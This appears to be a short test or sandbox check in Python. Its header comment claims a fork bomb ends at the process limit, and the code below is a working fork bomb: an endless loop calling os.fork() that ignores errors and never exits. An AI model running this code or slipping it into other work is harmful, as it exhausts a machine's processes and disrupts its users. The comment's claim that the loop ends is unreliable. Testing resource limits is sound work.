# claim: a fork bomb ends at the limit of processes, with its submission
# seconds: 25
# %% setup
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
